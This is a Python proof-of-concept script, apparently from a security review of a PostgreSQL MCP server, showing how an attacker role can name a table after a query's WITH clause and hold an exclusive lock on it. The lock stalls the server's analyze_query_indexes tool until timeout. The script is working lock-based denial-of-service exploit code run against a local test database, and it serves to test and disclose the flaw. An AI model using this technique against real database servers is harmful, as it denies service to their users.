"""attack4 / target 4: analyze_query_indexes resolves the names the caller's query uses as
relations with to_regclass, after the guard; a WITH name is not a relation, so it resolves to
whatever relation of that name the path has (here the attacker's public.zz_cte), and HypoPG
creates a hypothetical index on it: a relation the guard never judged or locked. The attacker
holding ACCESS EXCLUSIVE on it holds the call until the statement timeout.
PostgreSQL 15 with HypoPG (bed15.py). Run:
PYTHONPATH=tests:security-review uv run python security-review/attack4/advice_cte.py
"""
import asyncio
import json
import sys
import time
from pathlib import Path

import asyncpg
from mcpclient import connect
from pgbed import with_database

ADMIN = Path(__file__).with_name(".dsn15").read_text()
DSN = with_database(ADMIN, "advdb")
SETUP = """
CREATE EXTENSION hypopg;
CREATE ROLE attacker LOGIN; CREATE ROLE reader LOGIN;
GRANT CREATE, USAGE ON SCHEMA public TO attacker;
CREATE TABLE public.items AS SELECT g AS id, g % 100 AS k FROM generate_series(1, 20000) g;
ANALYZE public.items;
GRANT SELECT ON public.items TO reader;
"""
QUERY = ("WITH zz_cte AS (SELECT id, k FROM public.items) "
         "SELECT * FROM zz_cte WHERE k = 5")


async def main() -> int:
    admin = await asyncpg.connect(ADMIN)
    await admin.execute("DROP DATABASE IF EXISTS advdb WITH (FORCE)")
    for r in ("attacker", "reader"):
        await admin.execute(f"DROP ROLE IF EXISTS {r}")
    await admin.execute("CREATE DATABASE advdb TEMPLATE template0")
    await admin.close()
    su = await asyncpg.connect(DSN)
    await su.execute(SETUP)
    atk = await asyncpg.connect(DSN.replace("postgres@", "attacker@", 1))
    await atk.execute("CREATE TABLE public.zz_cte (id int, k int); GRANT SELECT ON public.zz_cte TO PUBLIC")
    held = False
    async with connect(DSN.replace("postgres@", "reader@", 1)) as cl:
        r = await cl.call_tool("analyze_query_indexes", {"sql": QUERY})
        print("no hold:", r.content[0].text[:300])
        tr = atk.transaction()
        await tr.start()
        await atk.execute("LOCK TABLE public.zz_cte IN ACCESS EXCLUSIVE MODE")
        t = time.perf_counter()
        task = asyncio.create_task(cl.call_tool("analyze_query_indexes", {"sql": QUERY}))
        while not task.done():
            rows = await su.fetch("SELECT query FROM pg_stat_activity WHERE wait_event_type = 'Lock' "
                                  "AND application_name = 'pg-mcp-server'")
            if rows:
                held = True
                print("server waits on the attacker's lock in:", rows[0]["query"][:120])
                break
            await asyncio.sleep(0.05)
        await asyncio.sleep(1)
        await tr.rollback()
        r = await task
        print(f"held call: {time.perf_counter() - t:.1f} s:", json.dumps(r.content[0].text)[:300])
    await atk.close()
    await su.close()
    print("FINDING (hold through a WITH name)" if held else "held")
    return int(held)


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
